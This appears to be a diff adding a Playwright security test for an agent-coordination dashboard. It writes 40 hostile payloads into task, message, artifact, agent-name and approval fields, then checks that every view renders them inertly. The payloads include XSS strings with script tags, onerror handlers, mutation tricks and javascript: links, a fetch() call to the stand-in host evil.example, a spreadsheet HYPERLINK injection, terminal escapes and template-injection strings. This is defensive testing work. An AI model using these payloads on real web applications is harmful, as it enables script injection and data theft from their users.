@@ -1,0 +1,265 @@
+"""What agents write is hostile: 40 payloads in every field that they may fill, in front of a real browser.
+
+Whatever it is, it is shown as text: it opens no dialog, runs nothing, asks no other host, and breaks no layout.
+"""
+
+from typing import Any
+
+import pytest
+from playwright.sync_api import Page, expect
+
+from hubbub.core import (
+    agents,
+    approvals,
+    artifacts,
+    endings,
+    messages,
+    nodes,
+    presences,
+    reviews,
+    runs,
+    scopes,
+    tasks,
+)
+from hubbub.core.messages import Thread
+from hubbub.model.approvals import visible
+from hubbub.model.lifecycle import Event
+from hubbub.model.orders import About, Principal, Question, digest_of
+from hubbub.model.records import Condition, Profile, Task, Verdict
+from hubbub.model.scopes import Scope
+from hubbub.store.tx import Tx
+from tests.dashboard.browser import DESKTOP, PHONE, Visit, inside, settle
+from tests.dashboard.looks import WIDER
+from tests.dashboard.scene import NEVER
+from tests.serve.hub import Hub
+
+EVIL = "https://evil.example"
+PWN = f"document.body.dataset.pwned=1,alert(1),fetch('{EVIL}')"
+PAYLOADS = {
+    "script": f"<script>{PWN}</script>",
+    "script from elsewhere": f"<script src={EVIL}/x.js></script>",
+    "script that closes another": f"</script><script>{PWN}</script>",
+    "json that closes a script": f'{{"a": "</script><img src=x onerror={PWN}>"}}',
+    "image": f"<img src={EVIL}/p.png>",
+    "image with a handler": f'<img src=x onerror="{PWN}">',
+    "svg": f'<svg onload="{PWN}"><use href="{EVIL}/x.svg#a"/></svg>',
+    "svg animation": f'<svg><animate onbegin="{PWN}" attributeName=x dur=1s></svg>',
+    "math and mutation": f'<math><mtext><table><mglyph><style><img src=x onerror="{PWN}"></style></table></math>',
+    "comment and mutation": f'<!--><img src=x onerror="{PWN}">-->',
+    "frame": f'<iframe srcdoc="<script>{PWN}</script>" src="{EVIL}"></iframe>',
+    "details": f'<details open ontoggle="{PWN}">x</details>',
+    "autofocus": f'<input autofocus onfocus="{PWN}">',
+    "style": f'<style>body{{display:none;background:url({EVIL}/c)}}</style>',
+    "style attribute": f'<b style="position:fixed;inset:0;background:url({EVIL}/s)">over all</b>',
+    "base": f'<base href="{EVIL}/"><link rel=stylesheet href="{EVIL}/l.css">',
+    "refresh": f'<meta http-equiv=refresh content="0;url={EVIL}">',
+    "form": f'<form action="{EVIL}"><button formaction="javascript:{PWN}">Approve</button></form>',
+    "attribute that closes": f'"><img src=x onerror="{PWN}"><a title="',
+    "quote that closes": f"' onmouseover='{PWN}' x='",
+    "entities": f"&lt;img src=x onerror={PWN}&gt; &#60;script&#62;{PWN}&#60;/script&#62;",
+    "markdown link": f"[press me](javascript:{PWN})",
+    "markdown link by entities": f"[x](&#106;avascript:{PWN}) [y](java&Tab;script:{PWN})",
+    "markdown link to data": f"[x](data:text/html,<script>{PWN}</script>) [y](vbscript:x)",
+    "markdown link to nobody's host": f"[x](//evil.example/y) [y](\\\\evil.example) <{EVIL}/auto>",
+    "markdown image": f"![p]({EVIL}/p.png) ![q][r]\n\n[r]: {EVIL}/q.png",
+    "markdown image in a link": f"[![p]({EVIL}/i.png)](javascript:{PWN})",
+    "markdown that never ends": "[" * 400 + "*" * 400 + "`" * 399,
+    "markdown table": "|a|b|\n|-|-|\n|" + "c" * 3000 + "|<img src=x onerror=alert(1)>|",
+    "headings": "# one\n" + "#" * 6 + " six\n\n> " * 40 + "deep",
+    "right to left": "\u202egnp.exe\u202c \u2067abc\u2066 ע‎ברית والعربية",
+    "nothing to see": "\u200b\u200c\u200d\u2060\ufeff\u00ad" * 30 + "seen",
+    "marks without end": "Z" + "\u0337\u0338\u0349\u0316\u0319" * 200 + "algo",
+    "long": "word " * 10_000,
+    "long without a blank": "x" * 50_000,
+    "wide signs": "\ufdfd" * 400 + "🏴‍☠️👩‍👩‍👧‍👦" * 100,
+    "terminal": "\x1b[2J\x1b[31mred\x1b]8;;https://evil.example\x07link\x1b]8;;\x07\x07\x08\x7f",
+    "formula": "=HYPERLINK(\"https://evil.example\",\"x\")\n+1\n-1\n@SUM(1)",
+    "templates": "{{7*7}} ${7*7} <%= 7 %> #{7} {count} {name} %s $& $1",
+    "prototype": "__proto__",
+}  # fmt: skip
+NAMES = (
+    "__proto__",
+    "constructor",
+    "toString",
+    "hasOwnProperty",
+    "null",
+    "undefined",
+    "0",
+    ".",
+    "..",
+    "a/b?c#d&e=%",
+)
+
+# Whatever is on the page and cannot be ours.
+STRANGE = """(evil) => {
+  const strange = [];
+  for (const each of document.querySelectorAll("*")) {
+    for (const { name, value } of each.attributes) {
+      if (name.startsWith("on")) strange.push(`${each.tagName} has ${name}`);
+      if (name === "href" && !each.closest(".markdown") && value.includes(evil)) strange.push(`a link to ${value}`);
+    }
+    if (each.matches("a[href]") && !/^(https?|mailto):$/.test(each.protocol)) strange.push(`a link to ${each.href}`);
+  }
+  const never = "iframe, object, embed, base, math, form[action], [formaction], meta[http-equiv], style, img, script:not([src]):not(#boot)";
+  for (const each of document.querySelectorAll(never)) strange.push(each.outerHTML.slice(0, 80));
+  if (document.body.dataset.pwned || {}.polluted) strange.push("a payload ran");
+  return strange;
+}"""
+
+# What is wider than the box that it stands in, where that neither scrolls nor hides it.
+BROKEN = """() => [...document.querySelectorAll("main, .side, .nav, .top, .dialog")]
+  .filter((each) => each.scrollWidth > each.clientWidth + 1)
+  .map((each) => `${each.className} is ${each.scrollWidth} wide in ${each.clientWidth}`)"""
+
+VIEWS = ("needs", "board", "fleet", "messages", "files", "graph", "activity", "machines", "audit", "settings")
+
+
+@pytest.fixture(scope="module")
+def written(hub: Hub) -> list[Task]:
+    """A task for each payload; in all that agents may write about it stands the payload."""
+    return [
+        hub.do(lambda tx, number=number, text=text: _write(tx, hub, number, text))
+        for number, text in enumerate(PAYLOADS.values())
+    ]
+
+
+def _write(tx: Tx, hub: Hub, number: int, text: str) -> Task:
+    """Put the payload wherever an agent may write something."""
+    project_id = hub.project.id
+    name = _name(number, text)
+    _come(tx, hub, name, text, number)
+    tasks.send(tx, project_id, sender=name, to=None, text=text, context=text, title=text)
+    task = tasks.send(
+        tx, project_id, sender=name, to=name, text=f"{text}\n\n{text}", context=text, title=text, reason=text
+    )
+    begun = tasks.start(tx, tasks.accept(tx, task, name), name)
+    presences.progress(tx, begun, name, output=text, progress=50)
+    tasks.note(tx, begun, actor=name, detail={"reason": text})
+    artifact = artifacts.post(
+        tx,
+        runs.current(tx, project_id),
+        by=name,
+        name=text[:200],
+        kind=text[:200],
+        content=text,
+        task=str(task.id),
+    )
+    review = reviews.request(tx, artifact, by=name, reviewer=name)
+    reviews.submit(tx, review, Verdict.CHANGES_REQUESTED, by=name, comments=text)
+    for to in ("hub", name):
+        messages.send(tx, project_id, sender=name, to=to, body=text, thread=Thread(name=text[:200]))
+        messages.send(tx, project_id, sender=name, to=to, body=text, in_reply_to=task.id)
+    messages.broadcast(tx, project_id, sender=name, recipients=[name], body=text)
+    current = tasks.find(tx, [project_id], str(task.id))
+    return _leave(tx, current, name, text, number)
+
+
+def _name(number: int, text: str) -> str:
+    """What an agent may be called that comes nearest to the payload."""
+    if number < len(NAMES):
+        return NAMES[number]
+    letters = "".join(each for each in text if each.isprintable()).strip()
+    return f"{letters[:150].strip()} {number}"
+
+
+def _come(tx: Tx, hub: Hub, name: str, text: str, number: int) -> None:
+    """An agent and its machine, which say of themselves what they like."""
+    line = visible(text[:190]).strip()[:190]
+    about = About(name=f"{line} {number}", machine_id=line, platform=line, version=line, sandbox=line)
+    nodes.report(tx, hub.project, about, labels=[line], ttl=NEVER)
+    profile = Profile(
+        doing=text, output=text, server=text, hostname=about.name, runtime=text, workdir=text, version=text,
+        terminal=text, thread=text, config_path=text, channels=text, model=text,
+    )  # fmt: skip
+    condition = list(Condition)[number % (len(Condition) - 1)]
+    presences.report(
+        tx,
+        hub.project.id,
+        name,
+        instance=f"{text[:150]} {number}",
+        condition=condition,
+        profile=profile,
+        ttl=NEVER,
+    )
+    presence = agents.presence(tx, hub.project.id, name)
+    assert presence is not None
+    path = "".join(each for each in text[:200] if each.isprintable() and each not in "*?[]{}\\").strip(" ./")
+    scopes.declare(tx, hub.project, presence, Scope.of(None, [f"src/{path or number}", "shared"]))
+    _ask(tx, hub, name, text)
+
+
+def _ask(tx: Tx, hub: Hub, name: str, text: str) -> None:
+    who = Principal(project=hub.project.slug, name=name)
+    call: dict[str, Any] = {"command": text, text[:100]: text}
+    question = Question(
+        who=who, node=text[:200], tool=text[:200], arguments=call, folder=text[:200], shown=text, reason=text,
+        digest=digest_of(who, "run_command", call, "/srv", "node"),
+    )  # fmt: skip
+    approvals.put(tx, hub.project, question, NEVER / 10)
+
+
+def _leave(tx: Tx, task: Task, name: str, text: str, number: int) -> Task:
+    """A third waits, a third has failed, a third is done."""
+    if number % 3 == 0:
+        return tasks.step(tx, task, Event.BLOCK, actor=name, detail={"reason": text})
+    event = Event.FAIL if number % 3 == 1 else Event.COMPLETE
+    return endings.finish(tx, task, event, by=name, text=text, result=text, files=[text[:200]])
+
+
+@pytest.mark.parametrize("size", [DESKTOP, PHONE], ids=["laptop", "phone"])
+def test_no_view_is_harmed(visit: Visit, written: list[Task], size: tuple[int, int]) -> None:
+    """Every view shows all of it: nothing runs, nothing is asked of another host, and nothing sticks out."""
+    assert len(written) == len(PAYLOADS) == 40
+    page = visit("/", size=size)
+    faults = {}
+    for view in VIEWS:
+        inside(page, "shell/router.js", "m.go(x)", view)
+        if found := _faults(page):
+            faults[view] = found
+    assert faults == {}
+
+
+def test_no_task_is_harmed(visit: Visit, written: list[Task]) -> None:
+    """Beside the board every one of these tasks shows its title as it was written, and all that was said of it."""
+    page = visit("/board")
+    faults = {}
+    for payload, task in zip(PAYLOADS, written, strict=True):
+        inside(page, "shell/router.js", "m.set({ task: x })", str(task.number))
+        head = page.locator(".inspector-head")
+        expect(head).to_contain_text(f"T-{task.number}")
+        shown = head.locator("h2").text_content() or ""
+        found = [] if _same(shown, task.title) else [f"{shown[:60]!r} for {task.title[:60]!r}"]
+        for tab in ("Overview", "Result", "Artifacts", "Raw"):
+            page.locator(".side").get_by_role("tab", name=tab).click()
+            if tab == "Artifacts":
+                page.locator(".side .artifact").first.click()
+            found += _faults(page)
+        if found:
+            faults[payload] = found
+    assert faults == {}
+
+
+def test_no_agent_is_harmed(visit: Visit, written: list[Task]) -> None:
+    """Beside the fleet every one of these agents is called what it is called, however that may be understood."""
+    page = visit("/fleet")
+    faults = {}
+    for number, text in enumerate(PAYLOADS.values()):
+        name = _name(number, text)
+        inside(page, "shell/router.js", "m.set({ agent: x })", name)
+        expect(page.locator(".side")).to_contain_text(name[:40].strip())
+        if found := _faults(page):
+            faults[name[:40]] = found
+    assert faults == {}
+
+
+def _faults(page: Page) -> list[str]:
+    expect(page.locator(".skeleton")).to_have_count(0)
+    settle(page)
+    found: list[str] = page.evaluate(STRANGE, EVIL) + page.evaluate(BROKEN)
+    return [*found, "the page is wider than the window"] if page.evaluate(WIDER) > 0 else found
+
+
+def _same(shown: str, title: str) -> bool:
+    """Whether that is the title, or its beginning; `code` stands there without its marks."""
+    plain = shown.removesuffix("…").replace("`", "")
+    return title.replace("`", "").startswith(plain) and len(plain) >= min(len(title.replace("`", "")), 200)
